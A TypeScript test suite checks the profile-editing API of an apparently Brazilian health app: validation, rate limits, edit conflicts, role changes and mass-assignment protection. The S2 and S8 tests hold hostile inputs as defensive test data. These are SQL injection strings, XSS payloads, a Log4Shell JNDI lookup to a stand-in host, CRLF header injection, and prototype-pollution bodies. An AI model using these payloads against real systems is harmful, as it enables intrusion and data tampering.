import { randomUUID } from 'node:crypto'
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import type { DadosAlterados } from '#domain/usuarios/contract.ts'
import { enderecoVazio } from '#domain/usuarios/endereco.ts'
import { testApp, type TestApp } from '../testing/app.ts'
import { clientFor } from '../rpc/testing/client.ts'
import { buildVinculo } from '../equipe/fixtures.ts'
import { buildPaciente, buildUsuario, type Usuario } from './fixtures.ts'

let server: TestApp
let ana: Usuario

const AGORA = new Date('2026-11-21T15:00:00Z')

beforeAll(async () => {
  server = await testApp()
})
afterAll(() => server.stop())
beforeEach(async () => {
  await server.base.empty('usuarios', 'limites_de_uso')
  const paciente = await buildPaciente(server.base.owner, {
    usuario: { nome: 'Ana Souza', cpf: '52998224725', telefone: '+5511987654321' },
  })
  ana = paciente.usuario!
})

const como = ({ id, tipo_usuario }: Pick<Usuario, 'id' | 'tipo_usuario'>, agora = AGORA) =>
  clientFor(server.base, { usuario_id: id, perfil: tipo_usuario, sessao_id: randomUUID() }, () => agora)

const linha = async (id: string) =>
  (await server.base.owner.query('select * from usuarios where id = $1', [id])).rows[0] as Record<
    string,
    unknown
  >

async function pedido(mudanca: Partial<DadosAlterados> = {}): Promise<DadosAlterados> {
  const {
    email: _,
    avatar_url: __,
    bio: ___,
    created_at: ____,
    ...dados
  } = await como(ana).usuarios.meusDados()
  return { ...dados, ...mudanca }
}

const alterar = async (mudanca: Partial<DadosAlterados> = {}) =>
  como(ana).usuarios.alterarMeusDados(await pedido(mudanca))

describe('PERSON-01 one changes one’s own data', () => {
  test('DATA-01 DATA-02 every field is kept as it should be, and the profile that others see has the new name', async () => {
    const depois = await alterar({
      nome: '  José d’Ávila 😀 ',
      telefone: '(81) 99876-5432',
      cpf: '111.444.777-35',
      data_nascimento: '1971-03-12',
      genero: 'nao-informado',
      endereco: { ...enderecoVazio, cep: '50050-000', logradouro: 'Rua da Aurora', estado: 'PE' },
    })
    expect(depois).toMatchObject({
      nome: 'José d’Ávila 😀',
      telefone: '+5581998765432',
      cpf: '11144477735',
      data_nascimento: '1971-03-12',
      genero: 'nao-informado',
      endereco: { cep: '50050000', logradouro: 'Rua da Aurora', estado: 'PE', cidade: '' },
      email: ana.email,
    })
    expect(await como(ana).usuarios.meusDados()).toEqual(depois)
    const perfil = await server.base.owner.query('select nome_completo from profiles where user_id = $1', [
      ana.id,
    ])
    expect(perfil.rows).toEqual([{ nome_completo: 'José d’Ávila 😀' }])
  })

  test('PERSON-01 an address of empty fields is kept as null, and what was optional may go', async () => {
    await alterar({ endereco: { ...enderecoVazio, cidade: 'Recife' } })
    await alterar({ telefone: null, cpf: '', data_nascimento: null, genero: null, endereco: enderecoVazio })
    expect(await linha(ana.id)).toMatchObject({
      telefone: null,
      cpf: null,
      data_nascimento: null,
      genero: null,
      endereco: null,
    })
  })

  test.each<[Partial<DadosAlterados>, string, string]>([
    [{ nome: ' ' }, 'nome', 'Informe seu nome.'],
    [{ nome: 'a'.repeat(301) }, 'nome', 'Use no máximo 300 caracteres.'],
    [{ nome_social: '...' }, 'nome_social', 'O nome precisa ter pelo menos uma letra.'],
    [{ cns: '700 0000 0000 0006' }, 'cns', 'Este CNS não existe. Confira os 15 números do cartão do SUS.'],
    [{ idioma: 'Marciano' }, 'idioma', 'Escolha um idioma da lista.'],
    [{ cpf: '529.982.247-24' }, 'cpf', 'Este CPF não existe. Confira os 11 números.'],
    [{ telefone: '123' }, 'telefone', 'Informe um telefone com DDD, como (11) 98765-4321.'],
    [
      { data_nascimento: '1899-12-31' },
      'data_nascimento',
      'Informe uma data de nascimento a partir de 01/01/1900.',
    ],
    [{ data_nascimento: '2099-01-01' }, 'data_nascimento', 'A data de nascimento não pode estar no futuro.'],
    [{ endereco: { ...enderecoVazio, estado: 'XX' } }, 'endereco.estado', 'Escolha um dos 27 estados.'],
  ])('PERSON-01 %j is refused beside its field, and nothing changes', async (mudanca, campo, mensagem) => {
    const antes = await linha(ana.id)
    await expect(alterar(mudanca)).rejects.toMatchObject({
      code: 'ENTRADA_INVALIDA',
      data: { campos: [{ campo, mensagem }] },
    })
    expect(await linha(ana.id)).toEqual(antes)
  })

  test('PERSON-01 today is the day in São Paulo: a child born there this evening is not of the future', async () => {
    const noite = new Date('2026-11-22T02:30:00Z')
    const corpo = await pedido({ data_nascimento: '2026-11-22' })
    await expect(como(ana, noite).usuarios.alterarMeusDados(corpo)).rejects.toMatchObject({
      code: 'ENTRADA_INVALIDA',
    })
    const depois = new Date('2026-11-22T03:00:00Z')
    expect(await como(ana, depois).usuarios.alterarMeusDados(corpo)).toMatchObject({
      data_nascimento: '2026-11-22',
    })
  })

  test.each<[Partial<Usuario>, Partial<DadosAlterados>]>([
    [{ cpf: '11144477735' }, { cpf: '111.444.777-35' }],
    [{ cns: '700000000000005' }, { cns: '700 0000 0000 0005' }],
  ])('S6 PERSON-01 the answer does not tell whether somebody has the number %j', async (dele, meu) => {
    const outro = await buildUsuario(server.base.owner, { nome: 'Bento Lima', ...dele, endereco: null })
    expect(await alterar(meu)).toMatchObject(dele)
    expect(await linha(outro.id)).toMatchObject(dele)
  })

  test.each<[Partial<Usuario>, Partial<DadosAlterados>, string]>([
    [{ telefone: '+5581998765432' }, { telefone: '81998765432' }, 'telefone'],
  ])(
    'PERSON-01 a telephone that somebody has is refused without a word of whose it is',
    async (dele, meu, campo) => {
      const outro = await buildUsuario(server.base.owner, { nome: 'Bento Lima', ...dele, endereco: null })
      const recusa = await alterar(meu).then(
        () => null,
        (error: { code: string; message: string; data: { campos: { campo: string; mensagem: string }[] } }) =>
          error,
      )
      expect(recusa).toMatchObject({ code: 'JA_EM_USO', data: { campos: [{ campo }] } })
      expect(recusa!.data.campos[0]!.mensagem).toMatch(/já está em outro cadastro/)
      const dito = JSON.stringify([recusa!.message, recusa!.data])
      for (const segredo of [outro.id, outro.nome, outro.email!, '11144477735', '998765432'])
        expect(dito).not.toContain(segredo)
    },
  )

  test('PERSON-01 numbers cannot be tried one after the other', async () => {
    const corpo = await pedido()
    const respostas = await Promise.allSettled(
      Array.from({ length: 40 }, () => como(ana).usuarios.alterarMeusDados(corpo)),
    )
    const codigos = respostas.map((resposta) =>
      resposta.status === 'fulfilled' ? 'ok' : (resposta.reason as { code: string }).code,
    )
    expect(codigos.filter((codigo) => codigo === 'MUITAS_TENTATIVAS')).toHaveLength(10)
    expect(codigos.filter((codigo) => codigo === 'ok')).toHaveLength(30)
    const outraHora = new Date(AGORA.getTime() + 3_600_001)
    await expect(como(ana, outraHora).usuarios.alterarMeusDados(corpo)).resolves.toBeDefined()
  })
})

describe('PERSON-01 two screens edit the same data', () => {
  test('PERSON-01 who comes second is shown what is stored, and nothing is lost', async () => {
    const [primeira, segunda] = [await pedido({ nome: 'Ana Prado' }), await pedido({ cpf: null })]
    await como(ana).usuarios.alterarMeusDados(primeira)
    await expect(como(ana).usuarios.alterarMeusDados(segunda)).rejects.toMatchObject({
      code: 'CONFLITO',
      status: 409,
      data: { nome: 'Ana Prado', cpf: '52998224725' },
    })
    expect(await linha(ana.id)).toMatchObject({ nome: 'Ana Prado', cpf: '52998224725' })
  })

  test('PERSON-01 of two at the same moment one is kept and the other is told', async () => {
    const corpos = [await pedido({ nome: 'Ana Prado' }), await pedido({ nome: 'Ana Lima' })]
    const feitas = await Promise.allSettled(corpos.map((corpo) => como(ana).usuarios.alterarMeusDados(corpo)))
    expect(feitas.map(({ status }) => status).toSorted()).toEqual(['fulfilled', 'rejected'])
    const recusada = feitas.find(({ status }) => status === 'rejected') as PromiseRejectedResult
    expect(recusada.reason).toMatchObject({ code: 'CONFLITO', data: { nome: (await linha(ana.id)).nome } })
  })

  test('PERSON-05 a photo changed meanwhile is no conflict', async () => {
    const corpo = await pedido({ nome: 'Ana Prado' })
    await server.base.owner.query("update usuarios set avatar_url = '/nova.webp' where id = $1", [ana.id])
    expect(await como(ana).usuarios.alterarMeusDados(corpo)).toMatchObject({
      nome: 'Ana Prado',
      avatar_url: '/nova.webp',
    })
  })
})

test('S2 no column but those of the form can be written, whatever is sent along', async () => {
  const outro = await buildUsuario(server.base.owner, { nome: 'Bento Lima' })
  const bearer = await server.entrar(ana)
  const { created_at, updated_at, ...fixas } = await linha(ana.id)
  const proibidas = {
    id: outro.id,
    usuario_id: outro.id,
    email: 'outra@exemplo.com.br',
    tipo_usuario: 'administrador-geral',
    perfil: 'administrador-geral',
    role: 'administrador-geral',
    is_admin: true,
    status: 'suspenso',
    verificado: true,
    status_profissional: 'ativo',
    avatar_url: 'https://mal.example/x.svg',
    created_at: '2000-01-01T00:00:00Z',
    updated_at: '2000-01-01T00:00:00Z',
    numero_prontuario: 'PAC0000000000000',
  }
  const corpo = JSON.stringify({ ...(await pedido({ nome: 'Ana Prado' })), ...proibidas })
  const enviar = async (body: string) => {
    const answer = await fetch(`${server.url}/api/eu/dados?tipo_usuario=administrador-geral&id=${outro.id}`, {
      method: 'PUT',
      headers: { authorization: `Bearer ${bearer}`, 'content-type': 'application/json' },
      body,
    })
    return answer.status
  }
  for (const nome of ['"__proto__"', '"constructor":{"prototype"'])
    expect(
      await enviar(
        `{${nome}:{"tipo_usuario":"administrador-geral"}${nome.includes(':') ? '}' : ''},${corpo.slice(1)}`,
      ),
    ).toBe(400)
  expect((await linha(ana.id)).nome).toBe('Ana Souza')
  expect(await enviar(corpo)).toBe(200)
  const depois = await linha(ana.id)
  expect(depois).toEqual({ ...fixas, nome: 'Ana Prado', created_at, updated_at: depois.updated_at })
  expect(depois.updated_at).not.toEqual(updated_at)
  expect((await linha(outro.id)).nome).toBe('Bento Lima')
  expect(({} as Record<string, unknown>).tipo_usuario).toBeUndefined()
})

test('S8 text of any kind is kept byte for byte or refused with a sentence, and never a failure', async () => {
  const textos = [
    `'; drop table usuarios; --a`,
    `Robert"); DELETE FROM usuarios WHERE ('a'='a`,
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '%a_\\b',
    '${jndi:ldap://mal.example/a}',
    'ｆｕｌｌ ｗｉｄｔｈ',
    'עִבְרִית',
    '👩‍👩‍👧 família',
    'Z͑ͫ̓a̴lgo',
    'a\u0000b',
    'a\uD800b',
    'a\u202Eb',
    'a\r\nSet-Cookie: b',
    'NaN',
    'null',
    '__proto__',
  ]
  let guardados = 0
  for (const nome of textos) {
    const cidade = nome.slice(0, 60)
    const resposta = await alterar({ nome, endereco: { ...enderecoVazio, cidade } }).catch(
      (error: { code: string }) => error,
    )
    if ('code' in resposta) {
      expect(resposta.code, JSON.stringify(nome)).toBe('ENTRADA_INVALIDA')
      continue
    }
    guardados += 1
    expect(await linha(ana.id)).toMatchObject({ nome, endereco: { cidade } })
  }
  expect(guardados).toBe(13)
})

test('PERSON-03 a visitor and a person without a record are told so', async () => {
  await expect(clientFor(server.base).usuarios.meusDados()).rejects.toMatchObject({ code: 'NAO_AUTENTICADO' })
  await expect(clientFor(server.base).usuarios.alterarMeusDados(await pedido())).rejects.toMatchObject({
    code: 'NAO_AUTENTICADO',
  })
  const ninguem = { id: randomUUID(), tipo_usuario: 'paciente' as const }
  await expect(como(ninguem).usuarios.meusDados()).rejects.toMatchObject({ code: 'NAO_ENCONTRADO' })
})

describe('ENTRAR-06 a patient changes the own profile', () => {
  const mudar = (quem: Usuario, para: 'paciente' | 'paciente-administrador') =>
    como(quem).usuarios.mudarPerfil({ para })
  const tipo = async (id: string) => (await linha(id)).tipo_usuario

  test('ENTRAR-06 forth and back, and twice is once', async () => {
    for (const para of [
      'paciente-administrador',
      'paciente-administrador',
      'paciente',
      'paciente',
    ] as const) {
      expect(await mudar(ana, para)).toEqual({ perfil: para })
      expect(await tipo(ana.id)).toBe(para)
    }
  })

  test('ENTRAR-06 not while somebody is looked after: that person would have nobody', async () => {
    await mudar(ana, 'paciente-administrador')
    const lia = await buildPaciente(server.base.owner)
    await buildVinculo(server.base.owner, {
      pessoa_id: lia.usuario_id,
      cuidador_id: ana.id,
      responsavel: true,
    })
    await expect(mudar(ana, 'paciente')).rejects.toMatchObject({ code: 'CUIDA_DE_ALGUEM' })
    expect(await tipo(ana.id)).toBe('paciente-administrador')
    await server.base.owner.query(
      "update vinculos_cuidado set status = 'encerrado', encerrado_em = app_agora()",
    )
    expect(await mudar(ana, 'paciente')).toEqual({ perfil: 'paciente' })
  })

  test('ENTRAR-06 nobody becomes a patient, or another one, by this way', async () => {
    const medica = await buildUsuario(server.base.owner, { tipo_usuario: 'profissional' })
    await expect(mudar(medica, 'paciente')).rejects.toMatchObject({ code: 'SEM_PERMISSAO' })
    // A session from before: the row decides.
    await expect(mudar({ ...medica, tipo_usuario: 'paciente' }, 'paciente')).rejects.toMatchObject({
      code: 'SEM_PERMISSAO',
    })
    expect(await tipo(medica.id)).toBe('profissional')
  })
})
